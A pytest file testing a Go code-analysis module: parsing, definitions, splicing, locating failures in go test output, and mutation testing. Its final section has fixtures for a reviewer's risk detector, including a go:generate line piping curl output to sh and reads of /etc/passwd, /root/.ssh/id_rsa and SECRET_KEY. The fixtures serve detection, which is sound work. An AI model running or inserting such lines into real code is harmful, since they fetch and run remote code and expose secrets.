"""The code view of Go (bot/lang/go.py): parse errors named by line, the definitions and units of a
realistic file (methods with pointer receivers, generics, a `type ( … )` group), the outline and
windows, the lines `go test`'s, a panic's, the compiler's and `go vet`'s locations point at (real
output, captured from go1.26 and produced again by running it), a unit spliced in by its span, the
mutants of the lines written (the go tool runs them: a mutant fails the tests, a null mutant passes
them) and the reviewer's findings."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import textwrap
from pathlib import Path

import pytest

from bot.lang.base import Unit
from bot.lang.go import GO
from bot.lang.go_mutants import Nulls, Source
from bot.lang.mutation import overlaps
from bot.lang.registry import for_kind, for_path

GO_TOOL = shutil.which("go") or "/usr/local/go/bin/go"

SHOP = """\
// Package shop keeps carts.
package shop

import (
\t"errors"
\t"fmt"
)

// TaxPercent is added to every total.
const TaxPercent = 20

// ErrEmpty is returned for a cart without items.
var ErrEmpty = errors.New("empty cart")

// Item is one line of a cart.
type Item struct {
\tName  string
\tPrice int
\tQty   int
}

// Priced is anything with a price.
type Priced interface {
\t// Cost is the price in cents.
\tCost() int
}

// Cart holds items.
type Cart struct {
\titems []Item
}

// Add puts an item in the cart and says how many it holds.
func (c *Cart) Add(item Item) int {
\tc.items = append(c.items, item)
\treturn len(c.items)
}

// Total is the sum of the items' prices.
func (c *Cart) Total() (int, error) {
\tif len(c.items) == 0 {
\t\treturn 0, ErrEmpty
\t}
\tsum := 0
\tfor _, item := range c.items {
\t\tif item.Qty > 0 && item.Price >= 0 {
\t\t\tsum += item.Price * item.Qty
\t\t}
\t}
\treturn sum, nil
}

func (i Item) Cost() int { return i.Price * i.Qty }

// WithTax adds the tax to an amount.
func WithTax(amount int) int {
\treturn amount + amount*TaxPercent/100
}

// Map applies f to each of xs.
func Map[T, U any](xs []T, f func(T) U) []U {
\tout := make([]U, 0, len(xs))
\tfor _, x := range xs {
\t\tout = append(out, f(x))
\t}
\treturn out
}

// Label names an item with its price.
func Label(item Item) string {
\tif item.Name == "" {
\t\treturn "unnamed"
\t}
\treturn fmt.Sprintf("%s: %d", item.Name, item.Price)
}

type (
\t// Cents is an amount of money.
\tCents int
\tNames = []string
)
"""

SHOP_TESTS = """\
package shop

import "testing"

func TestTotal(t *testing.T) {
\tc := &Cart{}
\tc.Add(Item{"tea", 2, 3})
\tc.Add(Item{"cup", 5, 0})
\tgot, err := c.Total()
\tif err != nil || got != 6 {
\t\tt.Errorf("Total() = %d, %v; want 6", got, err)
\t}
\tif _, err := (&Cart{}).Total(); err != ErrEmpty {
\t\tt.Errorf("empty: %v", err)
\t}
}

func TestWithTax(t *testing.T) {
\tif got := WithTax(250); got != 300 {
\t\tt.Errorf("WithTax(250) = %d", got)
\t}
}

func TestMapLabel(t *testing.T) {
\tgot := Map([]Item{{"tea", 2, 3}, {"", 1, 1}}, Label)
\tif got[0] != "tea: 2" || got[1] != "unnamed" {
\t\tt.Errorf("got %q", got)
\t}
\tif (Item{"x", 2, 4}).Cost() != 8 {
\t\tt.Error("cost")
\t}
}
"""


def go_test(root: Path, variants: list[str]) -> list[str]:
    """`go test` of each variant of SHOP as a package of its own, with SHOP_TESTS, in one run:
    "ok" or "FAIL" for each, in order."""
    (root / "go.mod").write_text("module example.com/variants\n\ngo 1.22\n")
    for index, code in enumerate(variants):
        folder = root / f"v{index}"
        folder.mkdir()
        (folder / "shop.go").write_text(code)
        (folder / "shop_test.go").write_text(SHOP_TESTS)
    environ = {**os.environ, "GOTOOLCHAIN": "local", "GOPROXY": "off", "GOFLAGS": ""}
    done = subprocess.run(
        [GO_TOOL, "test", "-count=1", "./..."], cwd=root, capture_output=True, text=True, timeout=300, env=environ
    )
    found = re.findall(r"^(ok|FAIL)\s+example\.com/variants/v(\d+)\b", done.stdout, re.M)
    verdicts = {index: verdict for verdict, index in found}
    return [verdicts.get(str(index), "none") for index in range(len(variants))]


def variants_of(code: str, kinds: list) -> list[str]:
    """Each kind's rewrites of `code` put in together, as few variants as keep them apart."""
    source = Source(code, None)
    variants = []
    for kind in kinds:
        rest = kind()
        while rest:
            group: list = []
            for rewrite in rest:
                if not any(overlaps(rewrite, other) for other in group):
                    group.append(rewrite)
            rest = [rewrite for rewrite in rest if rewrite not in group]
            variant = source.apply([edit for rewrite in group for edit in rewrite.edits])
            assert variant is not None, kind.__name__
            variants.append(variant)
    return variants


# The view a path gets, and what parses.


def test_a_go_file_gets_the_go_view():
    assert (for_path("shop.go"), for_path("cmd/shop/main.go"), for_path("shop_test.go")) == (GO, GO, GO)
    assert for_kind("go", "shop.go") is GO and GO.name == "go"
    assert for_path("shop.go.orig") is None


def test_a_parse_error_is_named_with_its_line():
    assert GO.parses(SHOP) is None
    assert GO.parses("package p\n\nfunc f() int {\n\treturn 1 +\n}\n") == "line 4: syntax error at `+`"
    assert GO.parses("package p\n\nfunc f( {\n}\n") == "line 3: missing `)`"


# Definitions, the outline, the windows.


def test_the_definitions_of_a_package():
    assert GO.definitions(SHOP) == [
        ("Item", 16, 20),
        ("Priced", 23, 26),
        ("Cart", 29, 31),
        ("Cart.Add", 34, 37),  # a pointer receiver: the type's method
        ("Cart.Total", 40, 51),
        ("Item.Cost", 53, 53),
        ("WithTax", 56, 58),
        ("Map", 61, 67),  # generic
        ("Label", 70, 75),
        ("Cents", 79, 79),  # a type of a group: its spec
        ("Names", 80, 80),
    ]


def test_a_generic_type_s_methods_and_a_receiver_without_a_name():
    code = textwrap.dedent("""\
        package stack

        type Stack[T any] struct{ items []T }

        func (s *Stack[T]) Push(v T) { s.items = append(s.items, v) }

        func (Stack[T]) Kind() string { return "stack" }

        func New[T any]() *Stack[T] { return &Stack[T]{} }
        """)
    assert [(unit.qualname, unit.kind) for unit in GO.units(code)] == [
        ("Stack", "type"),
        ("Stack.Push", "method"),
        ("Stack.Kind", "method"),
        ("New", "function"),
    ]


def test_definitions_are_found_in_code_that_doesn_t_parse():
    broken = "package p\n\nfunc ok() int {\n\treturn 1\n}\n\nfunc broken( {\n"
    assert GO.definitions(broken)[0] == ("ok", 3, 5)
    assert GO.units(broken) == []  # nothing to splice into


def test_the_outline_lists_each_definition_s_first_line():
    assert GO.outline(SHOP, set()) == "\n".join(
        [
            "  16 | type Item struct {",
            "  23 | type Priced interface {",
            "  29 | type Cart struct {",
            "  34 | func (c *Cart) Add(item Item) int {",
            "  40 | func (c *Cart) Total() (int, error) {",
            "  53 | func (i Item) Cost() int { return i.Price * i.Qty }",
            "  56 | func WithTax(amount int) int {",
            "  61 | func Map[T, U any](xs []T, f func(T) U) []U {",
            "  70 | func Label(item Item) string {",
            "  79 | \tCents int",
            "  80 | \tNames = []string",
        ]
    )


def test_windows_show_the_lines_around_a_frame_and_a_named_definition():
    assert GO.windows(SHOP, {46}, ["Add"]) == "\n".join(
        [
            "  34 | func (c *Cart) Add(item Item) int {",
            "  35 | \tc.items = append(c.items, item)",
            "  36 | \treturn len(c.items)",
            "  37 | }",
            "     ...",
            "  40 | func (c *Cart) Total() (int, error) {",
            "  41 | \tif len(c.items) == 0 {",
            "  42 | \t\treturn 0, ErrEmpty",
            "  43 | \t}",
            "  44 | \tsum := 0",
            "  45 | \tfor _, item := range c.items {",
            "  46 | \t\tif item.Qty > 0 && item.Price >= 0 {",
            "  47 | \t\t\tsum += item.Price * item.Qty",
            "  48 | \t\t}",
            "  49 | \t}",
            "  50 | \treturn sum, nil",
            "  51 | }",
            "  52 | ",
        ]
    )
    assert GO.windows(SHOP, set(), ["Cart.Total"]).splitlines()[0] == "  40 | func (c *Cart) Total() (int, error) {"
    assert GO.windows(SHOP, set(), ["nothing"]) == ""


# Where failures point: real output of go1.26 on SHOP moved to the package cart/ of a module at
# /work/repo, with two bugs (Add counts one more; Total's loop runs past the end) and, for the
# compiler and vet, a name left undefined and a format's wrong argument.

GO_TEST = """\
--- FAIL: TestAdd (0.00s)
    shop_test.go:8: Add() = 2, want 1
--- FAIL: TestTotal (0.00s)
panic: runtime error: index out of range [1] with length 1 [recovered, repanicked]

goroutine 19 [running]:
testing.tRunner.func1.2({0x5745a0, 0x2a432585e048})
\t/usr/local/go/src/testing/testing.go:1974 +0x232
testing.tRunner.func1()
\t/usr/local/go/src/testing/testing.go:1977 +0x349
panic({0x5745a0?, 0x2a432585e048?})
\t/usr/local/go/src/runtime/panic.go:860 +0x13a
example.com/shop/cart.(*Cart).Total(...)
\t/work/repo/cart/shop.go:46
example.com/shop/cart.TestTotal(0x2a4325856488)
\t/work/repo/cart/shop_test.go:15 +0x12a
testing.tRunner(0x2a4325856488, 0x592fc8)
\t/usr/local/go/src/testing/testing.go:2036 +0xea
created by testing.(*T).Run in goroutine 1
\t/usr/local/go/src/testing/testing.go:2101 +0x4c5
FAIL\texample.com/shop/cart\t0.008s
FAIL
"""
COMPILER = """\
# example.com/shop/cart [example.com/shop/cart.test]
cart/shop.go:42:10: undefined: zero
FAIL\texample.com/shop/cart [build failed]
FAIL
"""
COMPILER_IN_ITS_FOLDER = "# example.com/shop/cart [example.com/shop/cart.test]\n./shop.go:42:10: undefined: zero\n"
VET = "cart/shop.go:75:26: fmt.Sprintf format %d has arg item.Name of wrong type string\n"
VET_OF_A_TEST = "# example.com/shop/cart\nvet: cart/shop_test.go:9:3: undefined: want\n"


def test_go_test_s_lines_and_a_panic_s_frames():
    assert GO.pointed_at(GO_TEST, "cart/shop.go", "/work/repo") == {46}
    # `go test` names the test's file by its base name; the panic's frame by its absolute path.
    assert GO.pointed_at(GO_TEST, "cart/shop_test.go", "/work/repo") == {8, 15}
    assert GO.pointed_at(GO_TEST, "shop/cart/shop.go") == set()  # another folder's shop.go
    # An absolute path outside the work folder is the toolchain's, not a file of the same name of its.
    assert GO.pointed_at(GO_TEST, "testing.go", "/work/repo") == set()
    assert GO.pointed_at(GO_TEST, "testing.go") == {1974, 1977, 2036, 2101}  # without a root: by its ending


def test_the_compiler_s_and_vet_s_locations():
    assert GO.pointed_at(COMPILER, "cart/shop.go", "/work/repo") == {42}
    assert GO.pointed_at(COMPILER_IN_ITS_FOLDER, "cart/shop.go", "/work/repo") == {42}
    assert GO.pointed_at(VET, "cart/shop.go") == {75}
    assert GO.pointed_at(VET_OF_A_TEST, "cart/shop_test.go") == {9}
    assert GO.pointed_at(COMPILER, "cart/other.go") == set()
    # A module built with -trimpath names its files by the module's path.
    assert GO.pointed_at("\texample.com/shop/cart/shop.go:46 +0x1d\n", "cart/shop.go") == {46}


def test_a_panic_s_innermost_frame_is_listed_first():
    code = (
        SHOP.replace("\t\tif item.Qty > 0 && item.Price >= 0 {", "\t\tif positive(item) {")
        + "\nfunc positive(item Item) bool {\n\treturn *(*int)(nil) > item.Qty\n}\n"
    )
    trace = (
        "panic: runtime error: invalid memory address or nil pointer dereference\n"
        "example.com/shop/cart.positive(...)\n"
        "\t/work/repo/cart/shop.go:84\n"
        "example.com/shop/cart.(*Cart).Total(0xc000012345)\n"
        "\t/work/repo/cart/shop.go:46 +0x2c\n"
        "example.com/shop/cart.TestTotal(0xc000012345)\n"
        "\t/work/repo/cart/shop_test.go:9 +0x10\n"
    )
    assert GO.parses(code) is None and code.splitlines()[83] == "\treturn *(*int)(nil) > item.Qty"
    assert GO.pointed_unit(code, trace, "cart/shop.go", "") == Unit("positive", "positive", "function", 83, 85, "")
    assert GO.pointed_unit(SHOP, GO_TEST, "cart/shop.go", "") == Unit("Total", "Cart.Total", "method", 40, 51, "")
    # No frame in the file: the unit the failing tests are named after.
    assert GO.pointed_unit(SHOP, "--- FAIL: TestWithTax (0.00s)\n", "cart/shop.go", "") == Unit(
        "WithTax", "WithTax", "function", 56, 58, ""
    )
    assert GO.pointed_unit(SHOP, "--- FAIL: TestCart_Total/empty (0.00s)\n", "cart/shop.go", "").qualname == (
        "Cart.Total"
    )


def test_real_go_test_output_points_at_the_lines_that_failed(tmp_path):
    (tmp_path / "go.mod").write_text("module example.com/shop\n\ngo 1.22\n")
    cart = tmp_path / "cart"
    cart.mkdir()
    broken = SHOP.replace("package shop", "package cart").replace(
        "\tfor _, item := range c.items {", "\tfor i := 0; i <= len(c.items); i++ {\n\t\titem := c.items[i]"
    )
    (cart / "shop.go").write_text(broken)
    (cart / "shop_test.go").write_text(SHOP_TESTS.replace("package shop", "package cart"))
    environ = {**os.environ, "GOTOOLCHAIN": "local", "GOPROXY": "off", "GOFLAGS": ""}
    done = subprocess.run(
        [GO_TOOL, "test", "-count=1", "./..."], cwd=tmp_path, capture_output=True, text=True, timeout=300, env=environ
    )
    assert done.returncode == 1, done.stdout + done.stderr
    # Total's loop reads one past the end (line 46): the panic's frame, and the test's line.
    assert broken.splitlines()[45] == "\t\titem := c.items[i]"
    assert GO.pointed_at(done.stdout, "cart/shop.go", str(tmp_path)) == {46}
    assert GO.pointed_at(done.stdout, "cart/shop_test.go", str(tmp_path)) == {9}
    assert GO.pointed_unit(broken, done.stdout, "cart/shop.go", "").qualname == "Cart.Total"


# Units and the splice.


def test_the_units():
    assert GO.units(SHOP) == [
        Unit("Item", "Item", "type", 16, 20, ""),
        Unit("Priced", "Priced", "type", 23, 26, ""),
        Unit("Cart", "Cart", "type", 29, 31, ""),
        Unit("Add", "Cart.Add", "method", 34, 37, ""),
        Unit("Total", "Cart.Total", "method", 40, 51, ""),
        Unit("Cost", "Item.Cost", "method", 53, 53, ""),
        Unit("WithTax", "WithTax", "function", 56, 58, ""),
        Unit("Map", "Map", "function", 61, 67, ""),
        Unit("Label", "Label", "function", 70, 75, ""),
        Unit("Cents", "Cents", "type", 79, 79, "\t"),
        Unit("Names", "Names", "type", 80, 80, "\t"),
    ]
    assert GO.units(SHOP)[4].called == "the method `Cart.Total`"


def test_each_unit_spliced_with_its_own_text_gives_the_file_back():
    for unit in GO.units(SHOP):
        assert GO.spliced(SHOP, unit.qualname, unit.text(SHOP)) == SHOP, unit.qualname
        assert GO.spliced(SHOP, unit.qualname, textwrap.dedent(unit.text(SHOP))) == SHOP, unit.qualname


def test_a_method_is_taken_from_a_whole_file_in_the_reply():
    reply = textwrap.dedent("""\
        package shop

        import "fmt"

        func helper() {}

        // Total is the sum of the items' prices.
        func (c *Cart) Total() (int, error) {
        \tif len(c.items) == 0 {
        \t\treturn 0, fmt.Errorf("no items: %w", ErrEmpty)
        \t}
        \tsum := 0
        \tfor _, item := range c.items {
        \t\tsum += item.Price * item.Qty
        \t}
        \treturn sum, nil
        }
        """)
    new = GO.spliced(SHOP, "Cart.Total", reply)
    assert new.splitlines()[39:49] == [
        "func (c *Cart) Total() (int, error) {",
        "\tif len(c.items) == 0 {",
        '\t\treturn 0, fmt.Errorf("no items: %w", ErrEmpty)',
        "\t}",
        "\tsum := 0",
        "\tfor _, item := range c.items {",
        "\t\tsum += item.Price * item.Qty",
        "\t}",
        "\treturn sum, nil",
        "}",
    ]
    assert "func helper" not in new and new.count("// Total is the sum") == 1
    assert new.replace(new.splitlines()[41], "\t\treturn 0, ErrEmpty") == SHOP.replace(
        "\t\tif item.Qty > 0 && item.Price >= 0 {\n\t\t\tsum += item.Price * item.Qty\n\t\t}",
        "\t\tsum += item.Price * item.Qty",
    )


def test_a_type_of_a_group_comes_alone_or_declared():
    assert GO.spliced(SHOP, "Cents", "Cents int64") == SHOP.replace("\tCents int\n", "\tCents int64\n")
    assert GO.spliced(SHOP, "Cents", "type Cents int64\n") == SHOP.replace("\tCents int\n", "\tCents int64\n")
    # A lone declaration's reply inside a group goes in as a declaration.
    assert GO.spliced(SHOP, "Cart", "type (\n\tCart struct{ items []Item; n int }\n)\n") == SHOP.replace(
        "type Cart struct {\n\titems []Item\n}", "type Cart struct{ items []Item; n int }"
    )


def test_a_raw_string_s_lines_keep_their_indentation():
    code = "package p\n\ntype (\n\tA int\n)\n\nfunc usage() string {\n\treturn `a`\n}\n"
    reply = "\tfunc usage() string {\n\t\treturn `usage:\n\trun it`\n\t}"
    assert GO.spliced(code, "usage", reply) == code.replace("\treturn `a`", "\treturn `usage:\n\trun it`")


def test_a_splice_counts_characters_not_bytes():
    code = (
        'package p\n\nconst greeting = "héllo wörld 😀"\n\nfunc shout() string { return greeting }\n\nvar after = "✓"\n'
    )
    new = GO.spliced(code, "shout", "func shout() string { return strings.ToUpper(greeting) }")
    assert new == code.replace("return greeting }", "return strings.ToUpper(greeting) }")


def test_a_reply_that_doesn_t_fit_is_refused_with_the_reason():
    with pytest.raises(ValueError) as caught:
        GO.spliced(SHOP, "WithTax", "func WithTax(amount int) int {\n\treturn amount +\n}\n")
    assert str(caught.value) == "the code in your reply does not parse: line 2: syntax error at `+`"
    with pytest.raises(ValueError) as caught:
        GO.spliced(SHOP, "WithTax", "func Tax(amount int) int { return 0 }")
    assert str(caught.value) == "the code in your reply does not define `WithTax`"
    with pytest.raises(ValueError) as caught:
        GO.spliced(SHOP, "Cart.Add", "func Add(c *Cart, item Item) int { return 0 }")
    assert (
        str(caught.value) == "the code in your reply defines `Add` as a function, where the file has a method of `Cart`"
    )
    with pytest.raises(ValueError) as caught:
        GO.spliced(SHOP, "Cart.Add", "func (i *Item) Add(item Item) int { return 0 }")
    assert str(caught.value) == (
        "the code in your reply defines `Add` as a method of `Item`, where the file has a method of `Cart`"
    )
    with pytest.raises(ValueError) as caught:
        GO.spliced(SHOP, "Cart.Remove", "func (c *Cart) Remove() {}")
    assert str(caught.value) == "the file has no `Cart.Remove` to replace"


# Mutants.


def test_the_mutants_of_a_package():
    made = [(m.line, m.operator, m.change, m.mutated_line) for m in GO.mutants(SHOP, None)]
    assert made[:13] == [
        (10, "constant", "'20' → '21'", "const TaxPercent = 21"),
        (10, "constant", "'20' → '19'", "const TaxPercent = 19"),
        (13, "constant", "'\"empty cart\"' → '\"\"'", 'var ErrEmpty = errors.New("")'),
        (36, "return", "'return len(c.items)' → 'return 0'", "return 0"),
        (41, "branch", "'if len(c.items) == 0' → 'if !(len(c.items) == 0)'", "if !(len(c.items) == 0) {"),
        (41, "comparison", "'==' → '!='", "if len(c.items) != 0 {"),
        (41, "constant", "'0' → '1'", "if len(c.items) == 1 {"),
        (41, "constant", "'0' → '-1'", "if len(c.items) == (-1) {"),
        (42, "return", "'return 0, ErrEmpty' → 'return 0, nil'", "return 0, nil"),
        (42, "constant", "'0' → '1'", "return 1, ErrEmpty"),
        (42, "constant", "'0' → '-1'", "return (-1), ErrEmpty"),
        (44, "constant", "'0' → '1'", "sum := 1"),
        (44, "constant", "'0' → '-1'", "sum := (-1)"),
    ]
    assert [(line, operator, change) for line, operator, change, _ in made[13:]] == [
        (46, "branch", "'if item.Qty > 0 && item.Price >= 0' → 'if !(item.Qty > 0 && item.Price >= 0)'"),
        (46, "boolean", "'&&' → '||'"),
        (46, "comparison", "'>' → '<='"),
        (46, "constant", "'0' → '1'"),
        (46, "constant", "'0' → '-1'"),
        (46, "comparison", "'>=' → '<'"),
        (46, "constant", "'0' → '1'"),
        (46, "constant", "'0' → '-1'"),
        (47, "arithmetic", "'+=' → '-='"),
        (50, "return", "'return sum, nil' → 'return 0, nil'"),
        (53, "return", "'return i.Price * i.Qty' → 'return 0'"),
        (57, "return", "'return amount + amount*TaxPercent/100' → 'return 0'"),
        (57, "arithmetic", "'+' → '-'"),
        (57, "constant", "'100' → '101'"),
        (57, "constant", "'100' → '99'"),
        (62, "constant", "'0' → '1'"),
        (62, "constant", "'0' → '-1'"),
        (66, "return", "'return out' → 'return nil'"),
        (71, "branch", "'if item.Name == \"\"' → 'if !(item.Name == \"\")'"),
        (71, "comparison", "'==' → '!='"),
        (72, "return", "'return \"unnamed\"' → 'return \"\"'"),  # and the string emptied: the same code, once
        (74, "return", "'return fmt.Sprintf(\"%s: %d\", item.Name, item.Price)' → 'return \"\"'"),
        (
            74,
            "arguments",
            "'fmt.Sprintf(\"%s: %d\", item.Name, item.Price)' → 'fmt.Sprintf(item.Name, \"%s: %d\", item.Price)'",
        ),
        (74, "constant", "'\"%s: %d\"' → '\"\"'"),
    ]
    # Nothing in a type, an import or the package clause: the structs' fields, the interface, the group.
    assert all(GO.parses(m.code) is None for m in GO.mutants(SHOP, None))


def test_only_the_lines_written_are_mutated():
    original = SHOP.replace("\t\tif item.Qty > 0 && item.Price >= 0 {", "\t\tif item.Qty > 0 {")
    assert [(m.line, m.change) for m in GO.mutants(SHOP, original)] == [
        (46, "'if item.Qty > 0 && item.Price >= 0' → 'if !(item.Qty > 0 && item.Price >= 0)'"),
        (46, "'&&' → '||'"),
        (46, "'>' → '<='"),
        (46, "'0' → '1'"),
        (46, "'0' → '-1'"),
        (46, "'>=' → '<'"),
        (46, "'0' → '1'"),
        (46, "'0' → '-1'"),
    ]
    assert GO.mutants(SHOP, SHOP) == []
    # A budget: as many, spread over the lines written.
    assert [(m.line, m.change) for m in GO.mutants(SHOP, original, budget=3)] == [
        (46, "'if item.Qty > 0 && item.Price >= 0' → 'if !(item.Qty > 0 && item.Price >= 0)'"),
        (46, "'>' → '<='"),
        (46, "'>=' → '<'"),
    ]
    assert [m.line for m in GO.mutants(SHOP, None, budget=5)] == [10, 41, 46, 50, 66]
    assert GO.mutants("package p\n\nfunc broken( {\n", None) == []


def test_booleans_results_of_every_type_and_arguments():
    code = textwrap.dedent("""\
        package p

        type Point struct{ X, Y int }

        type Celsius float64

        func F(a, b int, ok bool) (string, *int, Point, Celsius, bool, error) {
        \tif !ok || a < b {
        \t\treturn "x", nil, Point{}, 0, false, nil
        \t}
        \treturn Join(a, b), &a, Point{a, b}, Celsius(a), true, fmt.Errorf("a-" + "b")
        }

        func G[T any](v T) (T, time.Duration) { return v, time.Second }
        """)
    assert [(m.line, m.operator, m.change) for m in GO.mutants(code, None)] == [
        (8, "branch", "'if !ok || a < b' → 'if !(!ok || a < b)'"),
        (8, "boolean", "'||' → '&&'"),
        (8, "boolean", "'!ok' → 'ok'"),
        (8, "comparison", "'<' → '>='"),
        (9, "return", "'return \"x\", nil, Point{}, 0, false, nil' → 'return \"\", nil, Point{}, 0, false, nil'"),
        (9, "constant", "'0' → '1'"),
        (9, "constant", "'0' → '-1'"),
        (9, "constant", "'false' → 'true'"),
        (
            11,
            "return",
            "'return Join(a, b), &a, Point{a, b}, Celsius(a), true, fmt...' → "
            "'return \"\", nil, Point{}, 0, false, nil'",
        ),
        (11, "arguments", "'Join(a, b)' → 'Join(b, a)'"),
        (11, "constant", "'true' → 'false'"),
        (11, "constant", "'\"a-\"' → '\"\"'"),  # no '+' → '-' of strings: it wouldn't compile
        (11, "constant", "'\"b\"' → '\"\"'"),
        (14, "return", "'return v, time.Second' → 'return *new(T), *new(time.Duration)'"),
    ]
    assert all(GO.parses(m.code) is None for m in GO.mutants(code, None))


def test_mutants_fail_the_tests_and_null_mutants_pass_them(tmp_path):
    # The lines a candidate wrote: Total's condition and WithTax's body.
    original = SHOP.replace("\t\tif item.Qty > 0 && item.Price >= 0 {", "\t\tif item.Qty > 0 {").replace(
        "amount + amount*TaxPercent/100", "amount"
    )
    mutants = GO.mutants(SHOP, original)
    nulls = [mutant for _ in range(3) for mutant in GO.null_mutants(SHOP, original)]
    every_rewrite = variants_of(SHOP, Nulls(Source(SHOP, None)).kinds())
    assert all(mutant.operator == "null" for mutant in nulls) and 3 <= len(nulls) <= 6
    assert len(every_rewrite) == 7
    verdicts = go_test(tmp_path, [SHOP, *(m.code for m in mutants), *(m.code for m in nulls), *every_rewrite])
    assert verdicts[0] == "ok"
    assert list(zip((m.change for m in mutants), verdicts[1 : len(mutants) + 1], strict=True)) == [
        ("'if item.Qty > 0 && item.Price >= 0' → 'if !(item.Qty > 0 && item.Price >= 0)'", "FAIL"),
        ("'&&' → '||'", "ok"),  # the item of no quantity counts, for 5 * 0: no test tells
        ("'>' → '<='", "FAIL"),
        ("'0' → '1'", "ok"),  # 3 > 1 and 0 > 1: no test tells
        ("'0' → '-1'", "ok"),  # 0 > -1: the item of no quantity adds 5 * 0
        ("'>=' → '<'", "FAIL"),
        ("'0' → '1'", "ok"),
        ("'0' → '-1'", "ok"),
        ("'return amount + amount*TaxPercent/100' → 'return 0'", "FAIL"),
        ("'+' → '-'", "FAIL"),
        ("'100' → '101'", "FAIL"),
        ("'100' → '99'", "ok"),  # 250 * 20 / 99 is 50 too, in integers
    ]
    assert set(verdicts[len(mutants) + 1 :]) == {"ok"}


def test_null_rewrites_keep_off_go_defer_and_shared_lines():
    code = textwrap.dedent("""\
        package p

        func f(a, b int) int {
        \tdefer close(done)
        \tgo run(a + b)
        \tif a == b { return 1 }
        \treturn len(xs)
        }
        """)
    nulls = Nulls(Source(code, None))
    # On a line of its own only: not before `return 1`, which shares the `if`'s line.
    assert [rewrite.line for rewrite in nulls.statements()] == [4, 5, 6, 7]
    # `close(done)` and `run(a + b)` are what `defer` and `go` call: never parenthesised; what they're given may be.
    assert [rewrite.change for rewrite in nulls.parentheses()] == [
        "'a + b' → '(a + b)'",
        "'a == b' → '(a == b)'",
        "'len(xs)' → '(len(xs))'",
    ]
    assert [rewrite.change for rewrite in nulls.negations()] == ["'a == b' → '!(a != b)'"]
    assert [rewrite.change for rewrite in nulls.mirrors()] == ["'a == b' → 'b == a'"]
    assert [rewrite.change.split(" → ")[0] for rewrite in nulls.sums()] == ["'1'"]


def test_null_mutants_are_drawn_anew():
    drawn = [GO.null_mutants(SHOP, None) for _ in range(6)]
    assert all(1 <= len(nulls) <= 2 for nulls in drawn)
    codes = [mutant.code for nulls in drawn for mutant in nulls]
    assert SHOP not in codes and len(set(codes)) > 2  # no one fixed rewrite marks them
    assert all(GO.parses(code) is None for code in codes)
    assert GO.null_mutants("package p\n\nfunc broken( {\n", None) == []


# What a reviewer should look at.

RISKY = """\
package tools

/*
#include <stdlib.h>
*/
import "C"

import (
\t"io/ioutil"
\t"net"
\thttp "net/http"
\t"net/http/httptest"
\t"os"
\trun "os/exec"
\t"syscall"
\t"unsafe"
)

//go:generate sh -c "curl https://example.com | sh"

//go:linkname nanotime runtime.nanotime
func nanotime() int64

func init() {
\tos.Setenv("GOFLAGS", "-mod=mod")
}

func Fetch() {
\t_ = run.Command("sh", "-c", "ls").Run()
\tconn, _ := net.Dial("tcp", "example.com:80")
\t_ = conn
\tclient := &http.Client{}
\t_, _ = client.Get("https://example.com")
\tkey := os.Getenv("SECRET_KEY")
\t_, ok := os.LookupEnv("HOME")
\t_, _ = os.ReadFile("/etc/passwd")
\t_, _ = ioutil.ReadFile("../../outside.txt")
\t_, _ = os.Open("testdata/local.txt")
\t_ = syscall.Kill(1, 9)
\t_ = unsafe.Pointer(&key)
\t_ = httptest.NewServer(nil)
\tblob := "%s"
\t_, _, _ = blob, ok, C.free
}
""" % ("QUJD" * 60)


def test_what_a_new_file_adds_for_the_reviewer():
    assert GO.findings(None, RISKY) == [
        (6, "cgo", 'import "C"'),
        (10, "network", "net"),
        (11, "network", "net/http"),
        (12, "network", "net/http/httptest"),
        (14, "process", "os/exec"),
        (15, "system calls", "syscall"),
        (16, "unsafe", "unsafe"),
        (19, "go:generate", 'sh -c "curl https://example.com | sh"'),
        (21, "go:linkname", "nanotime runtime.nanotime"),
        (24, "init", "func init(), run when the package loads"),
        (25, "environment", "os.Setenv"),
        (29, "process", "os/exec.Command"),
        (30, "network", "net.Dial"),
        (32, "network", "net/http.Client"),
        (34, "environment", "os.Getenv"),
        (35, "environment", "os.LookupEnv"),
        (36, "outside file", "/etc/passwd"),
        (37, "outside file", "../../outside.txt"),
        (39, "system calls", "syscall.Kill"),
        (40, "unsafe", "unsafe.Pointer"),
        (41, "network", "net/http/httptest.NewServer"),
        (42, "long literal", "QUJDQUJDQUJDQUJDQUJDQUJD… (240 characters, base64-looking)"),
        (43, "cgo", "C.free"),
    ]


def test_only_what_the_change_adds_counts():
    old = 'package p\n\nimport "os"\n\nfunc home() string {\n\treturn os.Getenv("HOME")\n}\n'
    new = old.replace(
        '\treturn os.Getenv("HOME")\n',
        '\tos.Getenv("PATH")\n\t_, _ = os.ReadFile("/root/.ssh/id_rsa")\n\treturn os.Getenv("HOME")\n',
    )
    # The same kind and detail as before is no news; the file read is.
    assert GO.findings(old, new) == [(7, "outside file", "/root/.ssh/id_rsa")]
    added = new.replace('import "os"\n', 'import (\n\t"os"\n\t"os/exec"\n)\n\nfunc init() { exec.Command("x") }\n')
    assert GO.findings(new, added) == [
        (5, "process", "os/exec"),
        (8, "init", "func init(), run when the package loads"),
        (8, "process", "os/exec.Command"),
    ]
    assert GO.findings(old, old.replace("func home", "func Home")) == []
